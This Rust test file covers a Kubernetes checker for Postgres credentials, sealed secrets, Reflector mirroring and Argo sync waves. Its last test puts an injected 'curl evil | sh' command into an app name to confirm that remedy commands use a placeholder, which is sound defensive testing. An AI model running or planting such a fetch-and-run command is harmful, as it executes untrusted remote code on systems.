//! What must neither pass nor fail by mistake.

use super::*;
use crate::domain::reflection::Reflection;
use crate::live::login::Way;
use crate::verify::{Attempt, Link, LoginProblem};

fn links(words: &[&str]) -> Vec<Link> {
    words.iter().map(|word| Link::of(word).unwrap()).collect()
}

/// Each check of the app as link, status and reason, those that pass left out.
fn exceptions_of(
    app: Expected,
    facts: &Facts,
    skip: &[Link],
) -> Vec<(&'static str, Status, &'static str)> {
    let report = run(&[app], facts, skip);
    let checks = report.apps[0].checks.iter();
    checks
        .filter(|check| check.status != Status::Pass && check.reason != "not-asked")
        .map(|check| (check.check, check.status, check.reason))
        .collect()
}

fn reflected(facts: &mut Facts, entries: &[(&str, &str)]) {
    let Fact::Present(source) = facts.secrets.get("postgres", "my-shop-db-creds") else {
        panic!();
    };
    let mut source = source.clone();
    source.meta.annotations = entries
        .iter()
        .map(|(key, value)| {
            (
                format!("reflector.v1.k8s.emberstack.com/{key}"),
                (*value).to_owned(),
            )
        })
        .collect();
    facts.secrets.put(source);
}

fn as_live() -> Expected {
    Expected {
        mirrors: MirrorsTo::AsLive,
        ..my_shop()
    }
}

#[test]
fn what_waits_for_a_link_that_is_left_out_is_missing() {
    let mut facts = working();
    facts.secrets = Shelf::default();
    assert_eq!(
        exceptions_of(my_shop(), &facts, &links(&["secret"])),
        [
            ("mirror", Status::Fail, "missing"),
            ("password", Status::Fail, "missing")
        ]
    );
    facts = working();
    facts.clusters = Shelf::default();
    assert_eq!(
        exceptions_of(my_shop(), &facts, &links(&["cluster"])),
        [
            ("role", Status::Fail, "not-declared"),
            ("password", Status::Skipped, "waits")
        ]
    );
}

#[test]
fn a_login_that_was_not_tried_is_no_pass() {
    let mut facts = working();
    let problem = LoginProblem::NotTried("waits for the link Mirror".to_owned());
    facts.logins.insert("my-shop".to_owned(), Err(problem));
    assert_eq!(
        exceptions_of(my_shop(), &facts, &[]),
        [("login", Status::Unknown, "not-tried")]
    );
}

#[test]
fn only_the_mirror_of_this_very_secret_is_logged_in_with() {
    let attempt = |facts: &Facts| {
        let mut attempts = Attempt::of_all(&[my_shop()], facts);
        attempts.remove(0).1
    };
    let mut facts = working();
    assert_eq!(
        attempt(&facts),
        Ok(Attempt {
            secret_namespace: "shop".to_owned(),
            secret: "my-shop-db-creds".to_owned(),
            way: Way::Pod {
                namespace: "postgres".to_owned(),
                name: "postgres-shared-1".to_owned(),
            },
            database: "my_shop".to_owned(),
            schemas: Vec::new(),
        })
    );
    let mut foreign = mirror("shop");
    foreign.meta.annotations.clear();
    facts.secrets.put(foreign);
    assert_eq!(
        attempt(&facts),
        Err(LoginProblem::NotTried(
            "waits for the link Mirror".to_owned()
        ))
    );
}

#[test]
fn patterns_need_the_namespaces() {
    let mut facts = working();
    let all = [
        ("reflection-allowed", "true"),
        ("reflection-auto-enabled", "true"),
        ("reflection-allowed-namespaces", "shop,team-.*"),
        ("reflection-auto-namespaces", "shop,team-.*"),
    ];
    reflected(&mut facts, &all);
    assert_eq!(exceptions_of(as_live(), &facts, &[]), []);
    facts.namespaces = unread(Cause::Forbidden);
    assert_eq!(
        exceptions_of(as_live(), &facts, &[]),
        [("mirror", Status::Unknown, "forbidden")]
    );
}

#[test]
fn namespaces_that_labels_choose_are_those_with_a_mirror() {
    let mut facts = working();
    let by_labels = [
        ("reflection-allowed", "true"),
        ("reflection-auto-enabled", "true"),
        ("reflection-allowed-namespaces-selector", "team=shop"),
        ("reflection-auto-namespaces-selector", "team=shop"),
    ];
    reflected(&mut facts, &by_labels);
    let report = run(&[as_live()], &facts, &[]);
    let mirrors: Vec<_> = report.apps[0]
        .checks
        .iter()
        .filter(|check| check.check == "mirror")
        .map(|check| (check.object.as_deref(), check.status, check.warnings.len()))
        .collect();
    assert_eq!(
        mirrors,
        [(Some("Secret shop/my-shop-db-creds"), Status::Pass, 1)]
    );
    facts.secrets.remove("shop", "my-shop-db-creds");
    assert_eq!(
        exceptions_of(as_live(), &facts, &[]),
        [("mirror", Status::Unknown, "undecided")]
    );
}

#[test]
fn a_mirror_that_asks_for_itself_needs_only_to_be_allowed() {
    let mut facts = working();
    let allowed = [
        ("reflection-allowed", "true"),
        ("reflection-allowed-namespaces", "shop"),
    ];
    reflected(&mut facts, &allowed);
    assert_eq!(exceptions_of(my_shop(), &facts, &[]), []);
    let mut made = mirror("shop");
    made.meta.annotations.insert(
        "reflector.v1.k8s.emberstack.com/auto-reflects".to_owned(),
        "True".to_owned(),
    );
    facts.secrets.put(made);
    assert_eq!(
        exceptions_of(my_shop(), &facts, &[]),
        [("mirror", Status::Fail, "not-allowed")]
    );
}

#[test]
fn the_clusters_own_namespace_needs_no_mirror() {
    let facts = working();
    let app = |names: &[&str]| Expected {
        mirrors: MirrorsTo::Named(names.iter().map(|name| (*name).to_owned()).collect()),
        ..my_shop()
    };
    assert_eq!(exceptions_of(app(&["postgres"]), &facts, &[]), []);
    assert_eq!(exceptions_of(app(&["postgres", "shop"]), &facts, &[]), []);
}

#[test]
fn a_role_of_the_clusters_own_has_no_sealed_credential() {
    let mut facts = working();
    facts.clusters = shelf(Cluster {
        roles: BTreeMap::new(),
        ..cluster()
    });
    facts.sealed_secrets = Shelf::default();
    let app = Expected {
        secret: Some("postgres-shared-app".to_owned()),
        sealed: None,
        made_by: None,
        mirrors: MirrorsTo::AsLive,
        role_source: Some(RoleSource::Cluster),
        ..my_shop()
    };
    let mut own = secret();
    own.meta.name = "postgres-shared-app".to_owned();
    facts.secrets.put(own);
    let skipped = |link| (link, Status::Skipped, "bootstrap");
    assert_eq!(
        exceptions_of(app, &facts, &[]),
        ["sealed-secret", "secret", "mirror", "role", "password"].map(skipped)
    );
}

#[test]
fn waiting_goes_on_while_a_new_version_is_on_its_way() {
    let mut facts = working();
    let mut late = secret();
    late.meta.labels.clear();
    facts.secrets.put(late);
    assert!(run(&[my_shop()], &facts, &[]).is_in_vain());
    let mut app = application();
    app.operation.as_mut().unwrap().phase = "Running".to_owned();
    facts.applications = shelf(app);
    assert!(!run(&[my_shop()], &facts, &[]).is_in_vain());
}

#[test]
fn waves_order_what_one_application_holds() {
    let mut facts = working();
    facts.clusters = shelf(Cluster {
        meta: Meta {
            annotations: BTreeMap::new(),
            ..cluster().meta
        },
        ..cluster()
    });
    let broken = [("cluster", Status::Fail, "waves")];
    assert_eq!(exceptions_of(my_shop(), &facts, &[]), broken);
    let mut ours = application();
    let mut platform = application();
    platform.meta.name = "platform".to_owned();
    platform.resources.retain(|held| held.kind == "Cluster");
    ours.resources.retain(|held| held.kind != "Cluster");
    facts.applications = Shelf::of(Fact::Present(vec![ours, platform]));
    assert_eq!(exceptions_of(my_shop(), &facts, &[]), []);
}

#[test]
fn a_name_from_a_file_is_no_command() {
    let app = Expected {
        app: "x; curl evil | sh".to_owned(),
        database: None,
        mirrors: MirrorsTo::Declared(Reflection::read(|_| None)),
        ..my_shop()
    };
    let report = run(&[app], &working(), &[]);
    let remedies = report.apps[0]
        .checks
        .iter()
        .flat_map(|check| &check.remedies);
    let commands: Vec<&String> = remedies.filter(|step| step.contains("new-app")).collect();
    assert_eq!(
        commands,
        ["kubectl pgdb new-app NAME --app-namespace NAMESPACE"]
    );
}
